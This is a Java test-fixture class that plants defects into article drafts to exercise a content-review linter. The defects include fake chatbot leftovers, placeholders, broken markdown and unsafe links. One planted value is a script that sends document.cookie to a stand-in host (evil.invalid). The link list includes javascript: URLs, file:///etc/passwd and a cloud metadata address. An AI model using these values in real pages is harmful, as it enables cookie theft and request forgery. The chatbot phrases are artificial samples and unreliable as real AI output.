package com.copydesk.rules.labelled;

import com.copydesk.model.Draft;
import com.copydesk.model.DraftBuilder;
import com.copydesk.model.GeneratorFlags;
import com.copydesk.model.ImageSource;
import com.copydesk.model.Payload;
import com.copydesk.model.Revision;
import com.copydesk.model.Scores;
import com.copydesk.rules.BodyFacts;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.BiFunction;

/**
 * Planted defects, per rule, in many wordings and at the start, middle and end of the body, in
 * the title and the summary: each is a clean draft with one thing wrong. Wordings follow what
 * chat generators really leave behind (Wikipedia's "Signs of AI writing" field guide of
 * WikiProject AI Cleanup: refusals, knowledge-cutoff notes, "I hope this helps", citation
 * markup, fill-in-the-blank templates), phrased here in words of our own.
 */
final class Defects {
    /** One way to plant a rule's defect: a name for the report and the change. */
    record Plant(String rule, String variant, BiFunction<Draft, Random, Draft> apply) {
    }

    private Defects() {
    }

    static final List<String> CHATBOT = List.of(
            "As an AI language model, I cannot run these benchmarks myself, but here is an overview.",
            "I hope this helps!",
            "Hope this helps - let me know if you need anything else.",
            "Certainly! Here is a blog post about the topic you asked for.",
            "Sure, here\u2019s a draft article covering the main points:",
            "As of my last knowledge update in January 2023, the recommended version was 2.1.",
            "I\u2019m sorry, but I can\u2019t provide real-time benchmark data.",
            "Let me know if you\u2019d like me to expand any section.",
            "Would you like me to add a section on monitoring?",
            "I don't have access to real-time data, so the figures may differ today.",
            "As a large language model, I have no hands-on experience with this stack.",
            "Great question! The short answer is that it depends on the workload.",
            "If you'd like, I can also write a version for beginners.",
            "Of course! Here's the revised article with the changes you requested:",
            "I apologize, but I cannot fulfill that request in full.",
            "Feel free to let me know if you want more examples.",
            "Based on my last available data, the default pool size was ten.",
            "Note: my knowledge cutoff is 2023, so some details may have changed since.",
            "I HOPE THIS HELPS YOU SHIP WITH CONFIDENCE.",
            "I'd be happy to help with a follow-up post on alerting.",
            "The defaults changed in version 3 turn0search0 and again in 4.",
            "Connection pools are sized per node citeturn0news4 in most setups.",
            "The planner picks the index on its own :contentReference[oaicite:2]{index=2} once statistics exist.",
            "Most teams measure p99 first \u30104\u2020source\u3011 and tune later.",
            "See the official notes [oai_citation:1\u2021docs.python.org](https://docs.python.org/3/) for details.",
            "The guide ([docs](https://docs.djangoproject.com/en/5.0/?utm_source=chatgpt.com)) covers it.");

    static final List<String> PLACEHOLDERS = List.of(
            "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
            "[INSERT EXAMPLE]",
            "For instance, [insert screenshot of the dashboard] shows the spike.",
            "Written by [Your Name].",
            "TODO: add the benchmark numbers.",
            "The rollout date is TBD.",
            "FIXME: explain this step properly.",
            "Our product {{product_name}} handles this for you.",
            "Ask {{ customer_name }} for access to the dashboard.",
            "Contact <placeholder> to get an account.",
            "See the vendor documentation (link here).",
            "The median dropped by XXX milliseconds.",
            "Read [the full guide](url) before you start.",
            "Read [the migration notes]() first.",
            "Thanks to [Company Name] for the hardware.",
            "Download the tool from <insert link>.",
            "More in the appendix (insert link) once it is written.",
            "The improvement was [X]% on average [citation needed].",
            "Lorem Ipsum is placeholder text.",
            "Add your text here.");

    static final List<String> REQUEST_NOTES = List.of(
            "content is generated for load testing and should be reviewed before indexing",
            "needs a second pair of eyes on the numbers",
            "please verify the numbers in the benchmark table",
            "TODO: fact-check the benchmark",
            "Not sure about the pool size advice - double-check",
            "the latency claims are unverified",
            "can someone confirm the version numbers?",
            "an editor should look at the conclusion",
            "Needs human review: generated statistics",
            "may be outdated, check against the current docs",
            "Please double check the code sample compiles",
            "flagged for review by the generator",
            "needs review before publishing",
            "reviewed by Ana, but please verify the table",
            "Sanity-check the migration steps");

    static final List<String> UNSAFE_TARGETS = List.of(
            "http://localhost:3000/admin", "http://127.0.0.1:8080/metrics", "http://127.1.2.3/", "http://[::1]:5000/",
            "http://0.0.0.0:8000", "http://10.0.0.5:9090/graph", "http://172.20.1.4/dashboard", "https://192.168.1.20/report",
            "http://169.254.169.254/latest/meta-data", "https://192.0.2.10/docs", "http://198.51.100.7/status",
            "https://203.0.113.42/api", "https://example.com/guide", "https://www.example.org/setup", "http://docs.example.net/",
            "https://api.example/v1", "https://staging.shop.test/cart", "https://x.invalid/", "http://app.localhost:4000/",
            "file:///etc/passwd", "file://C:/Users/me/notes.html", "data:text/html;base64,PHNjcmlwdD4=",
            "javascript:alert(document.cookie)", "JavaScript:void(0)");

    static List<Plant> all(List<Draft> clean) {
        List<Plant> plants = new ArrayList<>();
        // --- content defects
        for (String leftover : CHATBOT) {
            for (String where : List.of("start", "middle", "end")) {
                plants.add(new Plant("chatbot-leftover", "body " + where, (d, r) -> body(d, insert(d.body(), leftover, where, r))));
            }
        }
        plants.add(new Plant("chatbot-leftover", "title", (d, r) -> d.toBuilder().title("Certainly! Here is an article on " + d.title()).build()));
        plants.add(new Plant("chatbot-leftover", "title", (d, r) -> d.toBuilder().title("Sure, here\u2019s a blog post: " + d.title()).build()));
        plants.add(new Plant("chatbot-leftover", "title", (d, r) -> d.toBuilder().title(d.title() + " (as an AI language model, I suggest this title)").build()));
        for (String leftover : List.of("I hope this helps!", "As of my last knowledge update, this is current.",
                "Let me know if you want a shorter version.", "Here is a revised summary turn0search3.")) {
            plants.add(new Plant("chatbot-leftover", "summary", (d, r) -> d.toBuilder().summary(d.summary() + " " + leftover).build()));
        }
        for (String placeholder : PLACEHOLDERS) {
            for (String where : List.of("start", "middle", "end")) {
                plants.add(new Plant("placeholder", "body " + where, (d, r) -> body(d, insert(d.body(), placeholder, where, r))));
            }
        }
        plants.add(new Plant("placeholder", "title", (d, r) -> d.toBuilder().title("{{product_name}}: " + d.title()).build()));
        plants.add(new Plant("placeholder", "title", (d, r) -> d.toBuilder().title("[Insert title] " + d.title()).build()));
        plants.add(new Plant("placeholder", "summary", (d, r) -> d.toBuilder().summary(d.summary() + " TODO: write the summary.").build()));
        plants.add(new Plant("placeholder", "summary", (d, r) -> d.toBuilder().summary("Lorem ipsum. " + d.summary()).build()));
        for (String how : List.of("mid-word", "mid-sentence", "connective", "ellipsis", "heading", "open fence", "connective stop", "colon")) {
            for (int i = 0; i < 8; i++) {
                plants.add(new Plant("truncated", how, (d, r) -> body(d, truncate(d.body(), how, r))));
            }
        }
        for (String how : List.of("paragraph adjacent", "paragraph later", "paragraph at end", "sentence")) {
            for (int i = 0; i < 12; i++) {
                plants.add(new Plant("repeated-text", how, (d, r) -> body(d, repeat(d.body(), how, r))));
            }
        }
        for (String how : List.of("unclosed fence", "glued heading", "link without )", "link without [", "bold", "heading jump")) {
            for (int i = 0; i < 10; i++) {
                plants.add(new Plant("broken-markdown", how, (d, r) -> body(d, breakMarkdown(d.body(), how, r))));
            }
        }
        for (String how : List.of("before a section", "subsection", "at the end", "two in a row")) {
            for (int i = 0; i < 12; i++) {
                plants.add(new Plant("empty-section", how, (d, r) -> body(d, emptySection(d.body(), how, r))));
            }
        }
        for (String target : UNSAFE_TARGETS) {
            for (String form : List.of("link", "image", "autolink", "bare")) {
                if (form.equals("autolink") && !target.startsWith("http") || form.equals("bare") && !target.startsWith("http")) {
                    continue;
                }
                plants.add(new Plant("unsafe-link", form, (d, r) -> body(d, insert(d.body(), linkSentence(target, form), pick(r, "start", "middle", "end"), r))));
            }
        }
        for (String how : List.of("topic and stack", "topic", "stack", "tags")) {
            for (int i = 0; i < 12; i++) {
                plants.add(new Plant("topic-mismatch", how, (d, r) -> otherSubject(d, how, r)));
            }
        }
        for (String how : List.of("last_reviewed", "note iso", "note words", "lastmod", "revision field")) {
            for (int i = 0; i < 10; i++) {
                plants.add(new Plant("future-date", how, Defects::futureDate));
            }
        }
        // --- the rules of before
        for (int i = 0; i < 30; i++) {
            plants.add(new Plant("generator-review", "flag", (d, r) -> d.toBuilder().flags(flags(d, null, null, true)).build()));
            plants.add(new Plant("ai-style", "flag", (d, r) -> d.toBuilder().flags(flags(d, true, null, null)).build()));
            plants.add(new Plant("low-score", "one score", Defects::lowScore));
            plants.add(new Plant("stale-review", i % 3 == 0 ? "missing" : "old", (d, r) -> d.toBuilder()
                    .revision(r.nextInt(3) == 0 ? null : new Revision("final", "1.0", CleanDrafts.TODAY.minusDays(366 + r.nextInt(1500)), Map.of()))
                    .build()));
            plants.add(new Plant("reading-time", "off", Defects::readingTime));
            plants.add(new Plant("paragraph-count", "off", Defects::paragraphCount));
            plants.add(new Plant("checklist-mismatch", "changed", Defects::checklist));
            plants.add(new Plant("missing-meta", "empty", Defects::missingMeta));
            plants.add(new Plant("suspicious-text", "hidden or live", Defects::suspicious));
        }
        for (String how : List.of("flag without image", "flag 0 with image", "no source entry", "blank url", "blank source",
                "unshown meta image", "http url", "meta image without body image", "empty body url")) {
            for (int i = 0; i < 8; i++) {
                plants.add(new Plant("image-mismatch", how, (d, r) -> image(d, how, r)));
            }
        }
        for (String note : REQUEST_NOTES) {
            for (int i = 0; i < 3; i++) {
                plants.add(new Plant("reviewer-note", "note", (d, r) -> {
                    List<String> notes = new ArrayList<>(d.notes());
                    notes.add(r.nextInt(notes.size() + 1), note);
                    return d.toBuilder().notes(notes).build();
                }));
            }
        }
        return plants;
    }

    // --- helpers that change a body

    static Draft body(Draft draft, String body) {
        return draft.toBuilder().body(body).build();
    }

    /** The indexes of the body's prose paragraphs among its blank-line-separated blocks. */
    static List<Integer> proseBlocks(List<String> blocks) {
        List<Integer> prose = new ArrayList<>();
        for (int i = 0; i < blocks.size(); i++) {
            String block = blocks.get(i);
            if (!block.isBlank() && !block.startsWith("#") && !block.startsWith("- ") && !block.startsWith("![") && !block.startsWith("```")
                    && !block.startsWith("EXPLAIN") && !inCode(blocks, i)) {
                prose.add(i);
            }
        }
        return prose;
    }

    private static boolean inCode(List<String> blocks, int index) {
        int fences = 0;
        for (int i = 0; i < index; i++) {
            fences += blocks.get(i).split("```", -1).length - 1;
        }
        return fences % 2 == 1;
    }

    static List<String> blocks(String body) {
        return new ArrayList<>(List.of(body.strip().split("\n\n")));
    }

    static String join(List<String> blocks) {
        return String.join("\n\n", blocks) + "\n";
    }

    /** The text as a sentence of a prose paragraph at the start, in the middle or at the end of the body. */
    static String insert(String body, String text, String where, Random random) {
        List<String> blocks = blocks(body);
        List<Integer> prose = proseBlocks(blocks);
        int index = switch (where) {
            case "start" -> prose.get(0);
            case "end" -> prose.get(prose.size() - 1);
            default -> prose.get(prose.size() / 2);
        };
        String block = blocks.get(index);
        boolean own = random.nextBoolean();
        if (own) { // a paragraph of its own
            blocks.add(where.equals("start") ? index : index + 1, text);
        } else if (where.equals("start")) {
            blocks.set(index, text + " " + block);
        } else {
            blocks.set(index, block + " " + text);
        }
        return join(blocks);
    }

    static String truncate(String body, String how, Random random) {
        List<String> blocks = blocks(body);
        List<Integer> prose = proseBlocks(blocks);
        int index = prose.get(Math.max(1, prose.size() - 1 - random.nextInt(Math.max(1, prose.size() - 1))));
        List<String> kept = new ArrayList<>(blocks.subList(0, index));
        String paragraph = blocks.get(index);
        String[] words = paragraph.split(" ");
        int cut = Math.max(2, words.length / 3 + random.nextInt(Math.max(1, words.length / 2)));
        String head = String.join(" ", java.util.Arrays.copyOf(words, Math.min(cut, words.length - 1)));
        head = head.replaceAll("[.!?,;:]+$", "");
        switch (how) {
            case "mid-word" -> kept.add(head + " " + words[Math.min(cut, words.length - 1)].substring(0, Math.max(1, words[Math.min(cut, words.length - 1)].length() / 2)));
            case "connective" -> kept.add(head + " " + pick(random, "and", "but the", "because", "with the", "of"));
            case "connective stop" -> kept.add(head + " " + pick(random, "and the.", "of the.", "because.", "and."));
            case "ellipsis" -> kept.add(head + pick(random, "...", "\u2026"));
            case "heading" -> kept.add("## " + pick(random, "Final notes", "Rolling it out", "Next steps"));
            case "open fence" -> kept.add("```" + pick(random, "python", "go", "sh", "") + "\nfor item in items:\n    process(");
            case "colon" -> kept.add(head + " as follows:");
            default -> kept.add(head);
        }
        return join(kept);
    }

    static String repeat(String body, String how, Random random) {
        List<String> blocks = blocks(body);
        List<Integer> prose = proseBlocks(blocks);
        int index = prose.get(random.nextInt(prose.size()));
        String paragraph = blocks.get(index);
        switch (how) {
            case "paragraph adjacent" -> blocks.add(index + 1, paragraph);
            case "paragraph later" -> blocks.add(Math.min(blocks.size(), index + 2 + random.nextInt(Math.max(1, blocks.size() - index - 1))), paragraph);
            case "paragraph at end" -> blocks.add(paragraph);
            default -> {
                String longest = "";
                for (int p : prose) {
                    for (String sentence : blocks.get(p).split("(?<=[.!?]) ")) {
                        if (sentence.split(" ").length > longest.split(" ").length) {
                            longest = sentence;
                        }
                    }
                }
                int other = prose.get(random.nextInt(prose.size()));
                if (blocks.get(other).contains(longest)) {
                    other = prose.get((prose.indexOf(other) + 1) % prose.size());
                }
                blocks.set(other, blocks.get(other) + " " + longest);
            }
        }
        return join(blocks);
    }

    /** The index of the prose block in the middle of a body's blocks: where a defect is planted mid-text. */
    static int middleProse(List<String> blocks) {
        List<Integer> prose = proseBlocks(blocks);
        return prose.get(prose.size() / 2);
    }

    static String breakMarkdown(String body, String how, Random random) {
        List<String> blocks = blocks(body);
        int middle = middleProse(blocks);
        switch (how) {
            case "unclosed fence" -> blocks.add(middle + 1, "```" + pick(random, "python", "js", "") + "\nconfig = load()\nprint(config)");
            case "glued heading" -> {
                for (int i = 1; i < blocks.size(); i++) {
                    if (blocks.get(i).startsWith("## ") && random.nextBoolean() || i == blocks.size() - 1) {
                        int at = blocks.get(i).startsWith("## ") ? i : firstHeading(blocks);
                        blocks.set(at, "##" + blocks.get(at).substring(3));
                        break;
                    }
                }
            }
            case "link without )" -> blocks.set(middle, blocks.get(middle) + " See [the upstream guide](https://docs.python.org/3/library/ for details.");
            case "link without [" -> blocks.set(middle, blocks.get(middle) + " See the upstream guide](https://docs.python.org/3/library/) for details.");
            case "bold" -> blocks.set(middle, blocks.get(middle) + " This is **the step most teams skip.");
            default -> { // heading jump: a level 2 heading after another level 2 becomes level 4
                // only where the heading before is a level 2 one: after a ### subsection, #### is nesting, not a jump
                String previous = null;
                for (int i = 0; i < blocks.size(); i++) {
                    if (blocks.get(i).startsWith("#")) {
                        boolean afterLevel2 = previous != null && previous.startsWith("## ");
                        if (afterLevel2 && blocks.get(i).startsWith("## ") && (random.nextBoolean() || i > blocks.size() - 4)) {
                            blocks.set(i, "####" + blocks.get(i).substring(2));
                            break;
                        }
                        previous = blocks.get(i);
                    }
                }
            }
        }
        return join(blocks);
    }

    private static int firstHeading(List<String> blocks) {
        for (int i = 0; i < blocks.size(); i++) {
            if (blocks.get(i).startsWith("## ")) {
                return i;
            }
        }
        return 0;
    }

    static String emptySection(String body, String how, Random random) {
        List<String> blocks = blocks(body);
        List<Integer> headings = new ArrayList<>();
        for (int i = 0; i < blocks.size(); i++) {
            if (blocks.get(i).startsWith("## ")) {
                headings.add(i);
            }
        }
        int at = headings.get(1 + random.nextInt(headings.size() - 1));
        String title = pick(random, "Benchmarks", "Further reading", "Alternatives", "Monitoring", "Costs");
        switch (how) {
            case "subsection" -> blocks.add(at, "### " + title);
            case "at the end" -> blocks.add("## " + title);
            case "two in a row" -> {
                blocks.add(at, "## " + title);
                blocks.add(at + 1, "## Also " + title.toLowerCase());
            }
            default -> blocks.add(at, "## " + title);
        }
        return join(blocks);
    }

    static String linkSentence(String target, String form) {
        return switch (form) {
            case "image" -> "![the result](" + target + ")";
            case "autolink" -> "The dashboard lives at <" + target + ">.";
            case "bare" -> "Open " + target + " to see the numbers.";
            default -> "See [the dashboard](" + target + ") for the numbers.";
        };
    }

    // --- helpers that change the meta

    static Draft otherSubject(Draft draft, String how, Random random) {
        Subject own = Subject.ALL.stream().filter(s -> draft.stack().get(0).equals(s.stack())).findFirst().orElseThrow();
        Subject other;
        do {
            other = Subject.ALL.get(random.nextInt(Subject.ALL.size()));
        } while (other == own || other.area().equals(own.area()) || other.language().equals(own.language()));
        String problem = other.problems().get(random.nextInt(other.problems().size()));
        DraftBuilder b = draft.toBuilder();
        List<String> stack = List.of(other.stack(), other.area(), other.language());
        switch (how) {
            case "topic" -> b.topic(problem + " / " + other.stack());
            case "stack" -> b.stack(stack);
            case "tags" -> b.extra("tags", List.of(other.stack(), other.language(), other.area()));
            default -> b.topic(problem + " / " + other.stack()).stack(stack);
        }
        return b.build();
    }

    static Draft futureDate(Draft draft, Random random) {
        java.time.LocalDate future = CleanDrafts.TODAY.plusDays(2 + random.nextInt(400));
        DraftBuilder b = draft.toBuilder();
        List<String> notes = new ArrayList<>(draft.notes());
        switch (random.nextInt(5)) {
            case 0 -> b.revision(new Revision("final", "1.2", future, Map.of()));
            case 1 -> {
                notes.add(pick(random, "checked on ", "facts verified ", "links tested ") + future);
                b.notes(notes);
            }
            case 2 -> {
                notes.add("reviewed by Sam on " + future.getDayOfMonth() + " " + future.getMonth().getDisplayName(java.time.format.TextStyle.FULL,
                        java.util.Locale.ENGLISH) + " " + future.getYear());
                b.notes(notes);
            }
            case 3 -> b.extra("lastmod", future.toString());
            default -> b.revision(new Revision("final", "1.2", draft.revision().lastReviewed(), Map.of("published", future.toString())));
        }
        return b.build();
    }

    static GeneratorFlags flags(Draft d, Boolean style, Boolean images, Boolean review) {
        GeneratorFlags f = d.flags();
        return new GeneratorFlags(style != null ? style : f.aiGeneratedStyle(), images != null ? images : f.hasImages(),
                f.imageHeavy(), review != null ? review : f.needsHumanReview(), Map.of());
    }

    static Draft lowScore(Draft d, Random r) {
        Scores s = d.score();
        int low = r.nextInt(70);
        return d.toBuilder().score(switch (r.nextInt(4)) {
            case 0 -> new Scores(low, s.freshness(), s.depth(), s.clarity());
            case 1 -> new Scores(s.quality(), low, s.depth(), s.clarity());
            case 2 -> new Scores(s.quality(), s.freshness(), low, s.clarity());
            default -> new Scores(s.quality(), s.freshness(), s.depth(), low);
        }).build();
    }

    static Draft readingTime(Draft d, Random r) {
        double minutes = BodyFacts.of(d.body()).words() / 200.0;
        int stated = r.nextBoolean() ? (int) Math.ceil(minutes) * 3 + 2 + r.nextInt(5) : (int) Math.ceil(minutes) + 4 + r.nextInt(10);
        return d.toBuilder().readingTime(stated).build();
    }

    static Draft paragraphCount(Draft d, Random r) {
        int actual = BodyFacts.of(d.body()).proseParagraphs();
        int stated = r.nextBoolean() ? actual + 3 + r.nextInt(6) : actual * 3 + 2;
        Payload p = d.payload();
        return d.toBuilder().payload(new Payload(p.sourceId(), p.generator(), stated, p.scenario(), p.seed(), Map.of())).build();
    }

    static Draft checklist(Draft d, Random r) {
        List<String> checks = new ArrayList<>(d.checklist());
        switch (r.nextInt(3)) {
            case 0 -> checks.add("sign off with the product owner");
            case 1 -> checks.remove(r.nextInt(checks.size()));
            default -> checks.set(r.nextInt(checks.size()), "rewrite the deploy script");
        }
        return d.toBuilder().checklist(checks).build();
    }

    static Draft missingMeta(Draft d, Random r) {
        return switch (r.nextInt(3)) {
            case 0 -> d.toBuilder().summary(r.nextBoolean() ? "" : null).build();
            case 1 -> d.toBuilder().topic(r.nextBoolean() ? " " : null).build();
            default -> d.toBuilder().checklist(List.of()).build();
        };
    }

    static Draft suspicious(Draft d, Random r) {
        return switch (r.nextInt(4)) {
            case 0 -> d.toBuilder().title(d.title().replaceFirst(" ", " \u202E")).build();
            case 1 -> body(d, insert(d.body(), "Zero\u200Bwidth text hides here.", pick(r, "start", "middle", "end"), r));
            case 2 -> body(d, insert(d.body(), "<script>fetch('https://evil.invalid/?c=' + document.cookie)</script>", "middle", r));
            default -> body(d, d.body() + "\n<iframe src=\"https://ads.tracker.net/frame\"></iframe>\n");
        };
    }

    static Draft image(Draft d, String how, Random r) {
        String url = "https://images.unsplash.com/photo-" + (1_000_000 + r.nextInt(9_000_000)) + "?w=1200";
        boolean has = !d.imageSources().isEmpty();
        List<ImageSource> sources = new ArrayList<>(d.imageSources());
        DraftBuilder b = d.toBuilder();
        String withImage = has ? d.body() : insert(d.body(), "![a chart of the results](" + url + ")", "middle", r);
        if (!has) {
            sources.add(new ImageSource("unsplash", url, "a chart of the results", Map.of()));
        }
        String shown = sources.get(0).url();
        String caption = sources.get(0).caption();
        switch (how) {
            case "flag without image" -> b.body(withImage.replace("![" + caption + "](" + shown + ")", "")).flags(flags(d, null, true, null)).imageSources(List.of());
            case "flag 0 with image" -> b.body(withImage).imageSources(sources).flags(flags(d, null, false, null));
            case "no source entry" -> b.body(withImage).imageSources(List.of()).flags(flags(d, null, true, null));
            case "blank url" -> {
                sources.set(0, new ImageSource("unsplash", " ", caption, Map.of()));
                b.body(withImage).imageSources(sources).flags(flags(d, null, true, null));
            }
            case "blank source" -> {
                sources.set(0, new ImageSource(r.nextBoolean() ? "" : null, shown, caption, Map.of()));
                b.body(withImage).imageSources(sources).flags(flags(d, null, true, null));
            }
            case "unshown meta image" -> {
                sources.add(new ImageSource("pexels", url + "&x=2", "a second image", Map.of()));
                b.body(withImage).imageSources(sources).flags(flags(d, null, true, null));
            }
            case "http url" -> {
                String http = shown.replace("https://", "http://");
                sources.set(0, new ImageSource("unsplash", http, caption, Map.of()));
                b.body(withImage.replace(shown, http)).imageSources(sources).flags(flags(d, null, true, null));
            }
            case "meta image without body image" -> b.body(withImage.replace("![" + caption + "](" + shown + ")", ""))
                    .imageSources(sources).flags(flags(d, null, r.nextBoolean(), null));
            default -> b.body(withImage.replace("](" + shown + ")", "]()")).imageSources(sources).flags(flags(d, null, true, null));
        }
        return b.build();
    }

    static String pick(Random random, String... options) {
        return options[random.nextInt(options.length)];
    }
}
